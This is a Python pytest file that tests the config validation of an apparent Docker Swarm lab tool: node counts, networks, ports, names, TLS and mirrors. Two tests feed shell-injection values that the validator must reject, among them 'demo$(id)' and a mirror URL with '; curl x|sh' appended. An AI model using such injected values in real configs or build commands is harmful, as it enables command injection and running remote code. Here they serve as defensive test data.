"""Config validation: every bad value is refused with its key, its value and a fix."""

from __future__ import annotations

import socket
from pathlib import Path
from types import SimpleNamespace

import pytest

from cluster.config import load_config, parse_config
from cluster.errors import ConfigError, ConfigErrors
from cluster.lab.provider import LabBuild, check_free
from cluster.progress import PhaseResult


def errors_of(data: dict[str, object]) -> list[tuple[str, str]]:
    with pytest.raises(ConfigErrors) as caught:
        parse_config(data)
    return [(e.key, str(e)) for e in caught.value.errors]


def test_defaults_are_the_documented_topology() -> None:
    config = parse_config({})
    assert (config.managers, config.workers) == (3, 3)
    assert str(config.cidr) == "10.20.0.0/24"
    assert config.address(5) == "10.20.0.5"


@pytest.mark.parametrize("managers", [0, 2, 4, 6, 8, 9])
def test_manager_count_must_be_an_odd_raft_size(managers: int) -> None:
    [(key, message)] = errors_of({"managers": managers})
    assert key == "managers"
    assert f"managers={managers}" in message
    assert "1, 3, 5 or 7" in message and "Fix:" in message


@pytest.mark.parametrize("managers", [1, 3, 5, 7])
def test_odd_manager_counts_are_accepted(managers: int) -> None:
    assert parse_config({"managers": managers}).managers == managers


def test_zero_workers_is_refused() -> None:
    [(key, message)] = errors_of({"workers": 0})
    assert key == "workers" and "at least one worker" in message


@pytest.mark.parametrize("cidr", ["10.20.0.0/33", "10.20.0.300/24", "not-a-network", "10.20.0.1/24"])
def test_malformed_cidr_is_refused(cidr: str) -> None:
    [(key, message)] = errors_of({"cidr": cidr})
    assert key == "cidr" and cidr in message and "10.20.0.0/24" in message


def test_public_cidr_is_refused() -> None:
    [(key, message)] = errors_of({"cidr": "8.8.8.0/24"})
    assert key == "cidr" and "private" in message


def test_cidr_overlapping_the_overlay_pool_is_refused() -> None:
    [(key, message)] = errors_of({"cidr": "10.128.5.0/24"})
    assert key == "overlay_pool" and "overlaps" in message


def test_too_small_network_for_the_workers_is_refused() -> None:
    [(key, message)] = errors_of({"cidr": "10.20.0.0/28", "workers": 3})
    assert key == "cidr" and "larger network" in message


def test_several_problems_are_reported_together() -> None:
    keys = {key for key, _ in errors_of({"managers": 2, "workers": 0, "http_port": 80})}
    assert keys == {"managers", "workers", "http_port"}


def test_unknown_key_is_named() -> None:
    [(key, message)] = errors_of({"manager": 3})
    assert key == "manager" and "not a configuration key" in message


def test_environment_overrides_the_file(tmp_path: Path) -> None:
    path = tmp_path / "swarmlab.yaml"
    path.write_text("workers: 2\ncluster: course\n")
    config = load_config(path, {"SWARMLAB_WORKERS": "5"})
    assert (config.cluster, config.workers) == ("course", 5)


def test_bad_environment_value_names_the_key(tmp_path: Path) -> None:
    with pytest.raises(ConfigErrors) as caught:
        load_config(tmp_path / "absent.yaml", {"SWARMLAB_MANAGERS": "4"})
    assert caught.value.errors[0].key == "managers"


def test_unknown_environment_variable_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigErrors) as caught:
        load_config(tmp_path / "absent.yaml", {"SWARMLAB_WORKRS": "4"})
    assert caught.value.errors[0].key == "SWARMLAB_WORKRS"


def test_invalid_yaml_is_reported_with_its_path(tmp_path: Path) -> None:
    path = tmp_path / "swarmlab.yaml"
    path.write_text("workers: [3\n")
    with pytest.raises(ConfigErrors) as caught:
        load_config(path, {})
    assert str(path) in str(caught.value)


def test_errors_carry_their_fix_as_data_not_as_text_to_split() -> None:
    [error] = _one({"managers": 4})
    assert (error.key, error.value) == ("managers", 4)
    assert error.problem.startswith("must be 1, 3, 5 or 7") and error.fix == "set managers to 3"


def _one(data: dict[str, object]) -> list[ConfigError]:
    with pytest.raises(ConfigErrors) as caught:
        parse_config(data)
    return caught.value.errors


def test_a_non_ascii_cluster_name_is_refused() -> None:
    [error] = _one({"cluster": "démo"})
    assert error.key == "cluster" and "ASCII" in error.problem


def test_the_test_labs_keep_switch_is_not_mistaken_for_a_key(tmp_path: Path) -> None:
    config = load_config(tmp_path / "absent.yaml", {"SWARMLAB_KEEP_LAB": "1", "SWARMLAB_WORKERS": "2"})
    assert config.workers == 2


def test_an_environment_without_values_for_the_stack_is_refused_before_anything_runs() -> None:
    [error] = _one({"stack": "registration", "environment": "staging"})
    assert error.key == "environment" and "lab, prod" in error.fix


@pytest.mark.parametrize("name", ["demo", "course-2026", "9lives", "a", "A-b-9", "x" * 30])
def test_cluster_names_docker_accepts_are_accepted(name: str) -> None:
    assert parse_config({"cluster": name}).cluster == name


@pytest.mark.parametrize("name", ["-demo", "demo_1", "demo.1", "de mo", "../x", "", "x" * 31])
def test_cluster_names_docker_refuses_are_refused(name: str) -> None:
    [error] = _one({"cluster": name})
    assert error.key == "cluster" and "letters, digits and '-'" in error.problem


def test_https_port_is_checked_like_the_others() -> None:
    assert parse_config({}).https_port == 8443
    assert {key for key, _ in errors_of({"https_port": 443})} == {"https_port"}
    [error] = _one({"https_port": 8080})
    assert "must differ" in error.problem


def test_a_certificate_needs_its_key() -> None:
    [error] = _one({"tls_cert": "/etc/ssl/chain.pem"})
    assert error.key == "tls_key" and "go together" in error.problem
    config = parse_config({"tls_cert": "/c.pem", "tls_key": "/k.pem", "tls_names": ["reg.example.org"]})
    assert config.tls_names == ("reg.example.org",)
    [bad] = _one({"tls_names": ["not a name"]})
    assert bad.key == "tls_names"


def test_a_lab_published_beyond_loopback_is_warned_about_not_refused() -> None:
    assert parse_config({}).warnings == ()
    [warning] = parse_config({"bind_address": "192.168.1.10"}).warnings
    assert "bind_address=192.168.1.10" in warning and "OTP" in warning


def test_lab_up_prints_the_warning_before_anything_is_made(capsys: pytest.CaptureFixture[str]) -> None:
    ports = []
    for _ in range(4):
        with socket.socket() as probe:
            probe.bind(("0.0.0.0", 0))
            ports.append(probe.getsockname()[1])
    keys = ("http_port", "https_port", "ssh_port", "stats_port")
    config = parse_config({"bind_address": "0.0.0.0", **dict(zip(keys, ports, strict=True))})
    engine = SimpleNamespace(networks=SimpleNamespace(list=list))
    check_free(LabBuild(config, engine, config.state(provider="lab")), PhaseResult("lab-checks"))  # type: ignore[arg-type]
    out = capsys.readouterr().out
    assert "warning: bind_address=0.0.0.0 is not a loopback address" in out and "OTP" in out


@pytest.mark.parametrize("name", ["demo;id", "demo$(id)", "demo`id`", "de\nmo"])
def test_cluster_names_with_shell_words_are_refused(name: str) -> None:
    [error] = _one({"cluster": name})
    assert error.key == "cluster" and error.value == name and "such as 'demo'" in error.fix


@pytest.mark.parametrize(
    ("key", "value", "fix"),
    [
        ("debian_mirror", "http://deb.debian.org/debian; curl x|sh", "http://deb.debian.org/debian"),
        ("debian_mirror", "ftp://deb.debian.org/debian", "http://deb.debian.org/debian"),
        ("debian_mirror", "http://mirror/$(id)", "http://deb.debian.org/debian"),
        ("debian_suite", "bookworm main", "bookworm"),
        ("debian_suite", "../x", "bookworm"),
    ],
)
def test_what_goes_into_the_image_build_commands_is_checked(key: str, value: str, fix: str) -> None:
    [error] = _one({key: value})
    assert error.key == key and error.value == value and fix in error.fix


def test_usual_mirrors_and_suites_are_accepted() -> None:
    config = parse_config({"debian_mirror": "https://mirror.example.org:8443/debian/", "debian_suite": "trixie"})
    assert config.debian_mirror.startswith("https://") and config.debian_suite == "trixie"


def test_one_lb_is_the_default() -> None:
    assert parse_config({}).lb_count == 1


def test_two_lbs_are_accepted_from_the_environment(tmp_path: Path) -> None:
    assert load_config(tmp_path / "absent.yaml", {"SWARMLAB_LB_COUNT": "2"}).lb_count == 2


@pytest.mark.parametrize("count", [0, 3])
def test_an_lb_count_other_than_one_or_two_names_key_value_and_fix(count: int) -> None:
    [error] = _one({"lb_count": count})
    assert (error.key, error.value) == ("lb_count", count)
    assert error.problem.startswith("must be 1 or 2") and error.fix.startswith("set lb_count to 1")


def test_a_non_number_lb_count_says_what_to_write(tmp_path: Path) -> None:
    with pytest.raises(ConfigErrors) as caught:
        load_config(tmp_path / "absent.yaml", {"SWARMLAB_LB_COUNT": "two"})
    [error] = caught.value.errors
    assert error.key == "lb_count" and error.fix == "write 1 or 2"
